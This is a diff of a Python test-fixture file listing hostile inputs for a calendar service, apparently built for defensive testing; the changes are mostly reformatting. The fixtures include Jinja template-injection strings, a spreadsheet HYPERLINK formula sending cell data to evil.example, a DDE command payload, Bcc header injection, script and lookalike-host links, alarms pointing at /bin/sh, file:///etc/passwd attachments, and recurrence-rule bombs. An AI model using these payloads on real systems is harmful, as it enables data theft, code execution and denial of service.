@@ -84,7 +84,7 @@ _JINJA = {
     "an expression of the object graph": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
     "a template that is cut off": "{{ {% %} }} {{",
     "a comment": "Lunch {# hidden #}",
-    "a nested quote": "{{ \"{{ conn.corpus_canary.password }}\" }}",
+    "a nested quote": '{{ "{{ conn.corpus_canary.password }}" }}',
     "an endless expression": "{{ range(10**9)|list|length }} {{ 'x' * 10**9 }}",
 }
 """What a template engine makes of them is told from what was written: by a canary, or by one of ``RENDERED``."""
@@ -123,7 +123,7 @@ _MARKUP = {
 }
 
 _FORMULAS = {
-    "a formula": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
+    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
     "a formula after a semicolon": "Lunch;=1+1",
     "a formula after a tab": "Lunch\t=1+1",
     "a formula after a line end": "\n=1+1",
@@ -132,8 +132,8 @@ _FORMULAS = {
     "a formula after a byte order mark": "\ufeff=1+1",
     "a full-width sign": "＝1+1 ；＋1",
     "a plus, a minus, an at": "+1+1;-1+1;@SUM(1)",
-    "a quote and a formula": "\"\",=1+1,\"",
-    "a quote that opens": "'\";=1+1;\"",
+    "a quote and a formula": '"",=1+1,"',
+    "a quote that opens": '\'";=1+1;"',
     "a DDE call": "@SUM(1+1)*cmd|' /C calc'!A0",
 }
 
@@ -189,12 +189,18 @@ TIMES = (
     Hostile("time: year 1", {"start": "0001-01-01T00:00:00", "end": "0001-01-01T01:00:00"}),
     Hostile("time: year 9999", {"start": "9999-12-31T23:00:00", "end": "9999-12-31T23:59:59"}),
     Hostile("time: from year 1 to 9999", {"start": "0001-01-01T00:00:00", "end": "9999-12-31T23:59:59"}),
-    Hostile("time: year 1 east of Greenwich", {"start": "0001-01-01T00:00:00", "end": "0001-01-01T01:00:00",
-                                               "zone": "Asia/Tokyo"}),
-    Hostile("time: year 9999 west of Greenwich", {"start": "9999-12-31T23:00:00", "end": "9999-12-31T23:59:59",
-                                                  "zone": "America/Los_Angeles"}),
-    Hostile("time: in the gap of a clock change", {"start": "2040-03-25T02:30:00", "end": "2040-03-25T02:45:00",
-                                                   "zone": "Europe/Berlin"}),
+    Hostile(
+        "time: year 1 east of Greenwich",
+        {"start": "0001-01-01T00:00:00", "end": "0001-01-01T01:00:00", "zone": "Asia/Tokyo"},
+    ),
+    Hostile(
+        "time: year 9999 west of Greenwich",
+        {"start": "9999-12-31T23:00:00", "end": "9999-12-31T23:59:59", "zone": "America/Los_Angeles"},
+    ),
+    Hostile(
+        "time: in the gap of a clock change",
+        {"start": "2040-03-25T02:30:00", "end": "2040-03-25T02:45:00", "zone": "Europe/Berlin"},
+    ),
     Hostile("time: garbage", {"start": "yesterday", "end": "tomorrow {{ 41999 + 2 }}"}),
     Hostile("time: garbage with ESC", {"start": "\x1b[2J2040", "end": "\u202e2041"}),
     Hostile("time: month 13", {"start": "2040-13-45T25:61:61", "end": "2040-13-45T26:61:61"}),
@@ -211,18 +217,30 @@ TIMES = (
 PEOPLE = (
     Hostile("people: no organizer", {"organizer": None}),
     Hostile("people: organizer without address", {"organizer": {"name": "Mallory", "address": ""}}),
-    Hostile("people: organizer is garbage", {"organizer": {"name": "", "address": "mailto:@@@;javascript:alert(1)"}}),
+    Hostile(
+        "people: organizer is garbage",
+        {"organizer": {"name": "", "address": "mailto:@@@;javascript:alert(1)"}},
+    ),
     Hostile("people: organizer is me in capitals", {"organizer": {"name": "Me", "address": "{ME}"}}),
-    Hostile("people: organizer with line ends", {
-        "organizer": {"name": "M\r\nBcc: all@evil.example", "address": "m\r\nBcc: all@evil.example"}}),
-    Hostile("people: organizer looks like me", {"organizer": {"name": ME, "address": "mallory@evil.example"}}),
-    Hostile("people: 2,000 attendees", {
-        "attendees": [{"name": f"Guest {n}", "address": f"guest{n}@evil.example"} for n in range(2_000)]},
-        readable=True),
+    Hostile(
+        "people: organizer with line ends",
+        {"organizer": {"name": "M\r\nBcc: all@evil.example", "address": "m\r\nBcc: all@evil.example"}},
+    ),
+    Hostile(
+        "people: organizer looks like me", {"organizer": {"name": ME, "address": "mallory@evil.example"}}
+    ),
+    Hostile(
+        "people: 2,000 attendees",
+        {"attendees": [{"name": f"Guest {n}", "address": f"guest{n}@evil.example"} for n in range(2_000)]},
+        readable=True,
+    ),
     Hostile("people: me twice", {"attendees": [{"name": "Me", "address": ME}]}),
     Hostile("people: me twice, in capitals", {"attendees": [{"name": "Me", "address": "{ME}"}]}),
-    Hostile("people: names of 20 KB", {
-        "attendees": [{"name": "n" * 20_000, "address": "a" * 20_000 + "@evil.example"}] * 5}, readable=True),
+    Hostile(
+        "people: names of 20 KB",
+        {"attendees": [{"name": "n" * 20_000, "address": "a" * 20_000 + "@evil.example"}] * 5},
+        readable=True,
+    ),
     Hostile("people: organizer as text", json={"organizer": "mallory@evil.example"}),
     Hostile("people: organizer as list", json={"organizer": ["mallory@evil.example"]}),
     Hostile("people: organizer as number", json={"organizer": 7}),
@@ -256,9 +274,14 @@ LINKS = (
     Hostile("link: another host", {"link": "https://evil.example/login?airflow"}, readable=True),
     Hostile("link: a script", {"link": "javascript:alert(1)"}, readable=True),
     Hostile("link: data", {"link": "data:text/html,<script>alert(1)</script>"}, readable=True),
-    Hostile("link: a user that looks like the host", {"link": "https://127.0.0.1@evil.example/"}, readable=True),
-    Hostile("link: a host that begins like ours", {"link": "https://outlook.office365.com.evil.example/"},
-            readable=True),
+    Hostile(
+        "link: a user that looks like the host", {"link": "https://127.0.0.1@evil.example/"}, readable=True
+    ),
+    Hostile(
+        "link: a host that begins like ours",
+        {"link": "https://outlook.office365.com.evil.example/"},
+        readable=True,
+    ),
     Hostile("link: ESC", {"link": "https://evil.example/\x1b[2J"}, readable=True),
 )
 
@@ -273,10 +296,18 @@ _MINUTES = ",".join(map(str, range(60)))
 _HOURS = ",".join(map(str, range(24)))
 
 RULES = (
-    _rule("30 February", "RRULE:FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30", start="1970-01-01T10:00:00",
-          end="1970-01-01T11:00:00"),
-    _rule("every second since 1970", f"RRULE:FREQ=DAILY;BYHOUR={_HOURS};BYMINUTE={_MINUTES};BYSECOND={_MINUTES}",
-          start="1970-01-01T00:00:00", end="1970-01-01T00:00:01"),
+    _rule(
+        "30 February",
+        "RRULE:FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30",
+        start="1970-01-01T10:00:00",
+        end="1970-01-01T11:00:00",
+    ),
+    _rule(
+        "every second since 1970",
+        f"RRULE:FREQ=DAILY;BYHOUR={_HOURS};BYMINUTE={_MINUTES};BYSECOND={_MINUTES}",
+        start="1970-01-01T00:00:00",
+        end="1970-01-01T00:00:01",
+    ),
     _rule("secondly", "RRULE:FREQ=SECONDLY", start="1970-01-01T00:00:00", end="1970-01-01T00:00:01"),
     _rule("secondly, never", "RRULE:FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30"),
     _rule("minutely, never on a week day", "RRULE:FREQ=MINUTELY;BYDAY=MO;BYMONTHDAY=31;BYMONTH=2"),
@@ -290,20 +321,41 @@ RULES = (
     _rule("since year 1", "RRULE:FREQ=DAILY", start="0001-01-01T10:00:00", end="0001-01-01T11:00:00"),
     _rule("garbage", "RRULE:FREQ=SOMETIMES;{{ 41999 + 2 }}\x1b[2J"),
     _rule("twice", "RRULE:FREQ=DAILY", "RRULE:FREQ=SECONDLY"),
-    _rule("nested lists", "RRULE:FREQ=YEARLY;BYYEARDAY=" + ",".join(map(str, range(1, 367))) +
-          f";BYHOUR={_HOURS};BYMINUTE={_MINUTES};BYSETPOS=-1"),
+    _rule(
+        "nested lists",
+        "RRULE:FREQ=YEARLY;BYYEARDAY="
+        + ",".join(map(str, range(1, 367)))
+        + f";BYHOUR={_HOURS};BYMINUTE={_MINUTES};BYSETPOS=-1",
+    ),
     _rule("by set position of nothing", "RRULE:FREQ=MONTHLY;BYMONTHDAY=31;BYMONTH=2;BYSETPOS=1"),
     _rule("Easter", "RRULE:FREQ=YEARLY;BYEASTER=0"),
-    _rule("20,000 dates", "RDATE:" + ",".join(f"2041{1 + n % 12:02}{1 + n % 28:02}T{n % 24:02}{n % 60:02}00Z"
-                                               for n in range(20_000))),
-    _rule("20,000 exceptions", "RRULE:FREQ=DAILY", *(
-        f"EXDATE:2041{1 + n % 12:02}{1 + n % 28:02}T{n % 24:02}{n % 60:02}00Z" for n in range(20_000))),
-    _rule("daily with 2,000 attendees", "RRULE:FREQ=HOURLY", start="2020-01-01T00:00:00", end="2020-01-01T00:30:00",
-          attendees=[{"name": f"Guest {n}", "address": f"guest{n}@evil.example"} for n in range(2_000)]),
+    _rule(
+        "20,000 dates",
+        "RDATE:"
+        + ",".join(f"2041{1 + n % 12:02}{1 + n % 28:02}T{n % 24:02}{n % 60:02}00Z" for n in range(20_000)),
+    ),
+    _rule(
+        "20,000 exceptions",
+        "RRULE:FREQ=DAILY",
+        *(f"EXDATE:2041{1 + n % 12:02}{1 + n % 28:02}T{n % 24:02}{n % 60:02}00Z" for n in range(20_000)),
+    ),
+    _rule(
+        "daily with 2,000 attendees",
+        "RRULE:FREQ=HOURLY",
+        start="2020-01-01T00:00:00",
+        end="2020-01-01T00:30:00",
+        attendees=[{"name": f"Guest {n}", "address": f"guest{n}@evil.example"} for n in range(2_000)],
+    ),
     _rule("a negative duration", "DURATION:-PT5H", end=None),
     _rule("a huge duration", "DURATION:P99999999999W", end=None),
     _rule("garbage as a duration", "DURATION:forever", end=None),
-    _rule("days that last 100 years", "RRULE:FREQ=DAILY", "DURATION:P36500D", end=None, start="1990-01-01T00:00:00"),
+    _rule(
+        "days that last 100 years",
+        "RRULE:FREQ=DAILY",
+        "DURATION:P36500D",
+        end=None,
+        start="1990-01-01T00:00:00",
+    ),
     _rule("no start", start=None),
     _rule("no end", end=None),
 )
@@ -316,8 +368,13 @@ def _object(name: str, *lines: str, only: frozenset[str] = _CALDAV) -> Hostile:
 
 _HEAD = ("BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//evil//EN")
 _EVENT = (
-    "UID:hostile@evil.example", "DTSTAMP:20260101T000000Z", "DTSTART:{start}", "DTEND:{end}", "SUMMARY:Lunch",
-    "ORGANIZER:mailto:mallory@evil.example", "ATTENDEE;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{me}",
+    "UID:hostile@evil.example",
+    "DTSTAMP:20260101T000000Z",
+    "DTSTART:{start}",
+    "DTEND:{end}",
+    "SUMMARY:Lunch",
+    "ORGANIZER:mailto:mallory@evil.example",
+    "ATTENDEE;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{me}",
 )
 
 
@@ -339,46 +396,110 @@ OBJECTS = (
     _object("no event", *_whole()),
     _object("cut off", *_HEAD, "BEGIN:VEVENT", *_EVENT),
     _object("never ends", *_HEAD, *("BEGIN:VEVENT",) * 2_000, *_EVENT),
-    _object("1,500 overrides", *_whole(*_event("RRULE:FREQ=DAILY"), *(
-        line
-        for n in range(1_500)
-        for line in _event(f"RECURRENCE-ID:20{30 + n // 336}{1 + n // 28 % 12:02}{1 + n % 28:02}T100000Z")
-    ))),
-    _object("the same override 500 times", *_whole(*_event("RRULE:FREQ=DAILY"),
-                                                   *_event("RECURRENCE-ID:20400105T100000Z") * 500)),
-    _object("an override of garbage", *_whole(*_event("RRULE:FREQ=DAILY"), *_event("RECURRENCE-ID:tomorrow"))),
-    _object("folded into 100,000 lines", *_whole(*_event("DESCRIPTION:" + "\r\n ".join("ab" for _ in range(100_000))))),
+    _object(
+        "1,500 overrides",
+        *_whole(
+            *_event("RRULE:FREQ=DAILY"),
+            *(
+                line
+                for n in range(1_500)
+                for line in _event(
+                    f"RECURRENCE-ID:20{30 + n // 336}{1 + n // 28 % 12:02}{1 + n % 28:02}T100000Z"
+                )
+            ),
+        ),
+    ),
+    _object(
+        "the same override 500 times",
+        *_whole(*_event("RRULE:FREQ=DAILY"), *_event("RECURRENCE-ID:20400105T100000Z") * 500),
+    ),
+    _object(
+        "an override of garbage", *_whole(*_event("RRULE:FREQ=DAILY"), *_event("RECURRENCE-ID:tomorrow"))
+    ),
+    _object(
+        "folded into 100,000 lines",
+        *_whole(*_event("DESCRIPTION:" + "\r\n ".join("ab" for _ in range(100_000)))),
+    ),
     _object("100,000 lines", *_whole(*_event(*("X-A:b",) * 100_000))),
     _object("a line of 5,000 parameters", *_whole(*_event("X-A" + ";P=v" * 5_000 + ":b"))),
     _object("quotes that never end", *_whole(*_event('ATTENDEE;CN="Mallory:mailto:mallory@evil.example'))),
-    _object("a zone without rules", *_whole(
-        "BEGIN:VTIMEZONE", "TZID:Empty", "END:VTIMEZONE",
-        *_without("DT", "DTSTART;TZID=Empty:20400102T100000", "DTEND;TZID=Empty:20400102T110000"))),
-    _object("a zone that is garbage", *_whole(
-        "BEGIN:VTIMEZONE", "TZID:Odd", "BEGIN:STANDARD", "DTSTART:garbage", "TZOFFSETFROM:+9999", "TZOFFSETTO:x",
-        "RRULE:FREQ=SECONDLY", "END:STANDARD", "END:VTIMEZONE",
-        *_without("DT", "DTSTART;TZID=Odd:20400102T100000", "DTEND;TZID=Odd:20400102T110000"))),
-    _object("a zone that is a rule bomb", *_whole(
-        "BEGIN:VTIMEZONE", "TZID:Bomb", "BEGIN:STANDARD", "DTSTART:00010101T000000", "TZOFFSETFROM:+0000",
-        "TZOFFSETTO:+0100", "RRULE:FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30", "END:STANDARD", "END:VTIMEZONE",
-        *_without("DT", "DTSTART;TZID=Bomb:20400102T100000", "DTEND;TZID=Bomb:20400102T110000"))),
-    _object("a date as start and a time as end", *_whole(
-        *_without("DT", "DTSTART;VALUE=DATE:20400102", "DTEND:20400102T110000Z"))),
-    _object("a time as start and a date as end", *_whole(
-        *_without("DT", "DTSTART:20400102T100000Z", "DTEND;VALUE=DATE:20400103"))),
+    _object(
+        "a zone without rules",
+        *_whole(
+            "BEGIN:VTIMEZONE",
+            "TZID:Empty",
+            "END:VTIMEZONE",
+            *_without("DT", "DTSTART;TZID=Empty:20400102T100000", "DTEND;TZID=Empty:20400102T110000"),
+        ),
+    ),
+    _object(
+        "a zone that is garbage",
+        *_whole(
+            "BEGIN:VTIMEZONE",
+            "TZID:Odd",
+            "BEGIN:STANDARD",
+            "DTSTART:garbage",
+            "TZOFFSETFROM:+9999",
+            "TZOFFSETTO:x",
+            "RRULE:FREQ=SECONDLY",
+            "END:STANDARD",
+            "END:VTIMEZONE",
+            *_without("DT", "DTSTART;TZID=Odd:20400102T100000", "DTEND;TZID=Odd:20400102T110000"),
+        ),
+    ),
+    _object(
+        "a zone that is a rule bomb",
+        *_whole(
+            "BEGIN:VTIMEZONE",
+            "TZID:Bomb",
+            "BEGIN:STANDARD",
+            "DTSTART:00010101T000000",
+            "TZOFFSETFROM:+0000",
+            "TZOFFSETTO:+0100",
+            "RRULE:FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30",
+            "END:STANDARD",
+            "END:VTIMEZONE",
+            *_without("DT", "DTSTART;TZID=Bomb:20400102T100000", "DTEND;TZID=Bomb:20400102T110000"),
+        ),
+    ),
+    _object(
+        "a date as start and a time as end",
+        *_whole(*_without("DT", "DTSTART;VALUE=DATE:20400102", "DTEND:20400102T110000Z")),
+    ),
+    _object(
+        "a time as start and a date as end",
+        *_whole(*_without("DT", "DTSTART:20400102T100000Z", "DTEND;VALUE=DATE:20400103")),
+    ),
     _object("two starts", *_whole(*_event("DTSTART:20410102T100000Z"))),
     _object("two UIDs", *_whole(*_event("UID:another@evil.example"))),
     _object("no UID", *_whole(*_without("UID"))),
     _object("two events with other UIDs", *_whole(*_event(), *_without("UID", "UID:another@evil.example"))),
-    _object("X-AIRFLOW-RSVP on my line", *_whole(*_without(
-        "ATTENDEE",
-        "ATTENDEE;PARTSTAT=NEEDS-ACTION;X-AIRFLOW-RSVP=sending-accepted-0123456789abcdef0123456789abcdef-00000000"
-        ":mailto:{me}"))),
-    _object("my line claims another status", *_whole(*_without("ATTENDEE", "ATTENDEE;PARTSTAT=EVIL\x1b:mailto:{me}"))),
+    _object(
+        "X-AIRFLOW-RSVP on my line",
+        *_whole(
+            *_without(
+                "ATTENDEE",
+                "ATTENDEE;PARTSTAT=NEEDS-ACTION;X-AIRFLOW-RSVP=sending-accepted-0123456789abcdef0123456789abcdef-00000000"
+                ":mailto:{me}",
+            )
+        ),
+    ),
+    _object(
+        "my line claims another status",
+        *_whole(*_without("ATTENDEE", "ATTENDEE;PARTSTAT=EVIL\x1b:mailto:{me}")),
+    ),
     _object("me with 500 lines", *_whole(*_event(*("ATTENDEE;PARTSTAT=DECLINED:mailto:{me}",) * 500))),
-    _object("an alarm that runs a program", *_whole(*_event(
-        "BEGIN:VALARM", "ACTION:PROCEDURE", "TRIGGER:-PT5M", "ATTACH:file:///bin/sh", "END:VALARM"))),
-    _object("an attachment of a file", *_whole(*_event("ATTACH:file:///etc/passwd", "URL:file:///etc/passwd"))),
+    _object(
+        "an alarm that runs a program",
+        *_whole(
+            *_event(
+                "BEGIN:VALARM", "ACTION:PROCEDURE", "TRIGGER:-PT5M", "ATTACH:file:///bin/sh", "END:VALARM"
+            )
+        ),
+    ),
+    _object(
+        "an attachment of a file", *_whole(*_event("ATTACH:file:///etc/passwd", "URL:file:///etc/passwd"))
+    ),
     _object("it claims to be cancelled by the METHOD", *_HEAD, "METHOD:CANCEL", *_event(), "END:VCALENDAR"),
     _object("a nested calendar", *_whole(*_HEAD, *_event(), "END:VCALENDAR")),
     _object("a raw control character", *_whole(*_event("LOCATION:a\x01\x02b"))),
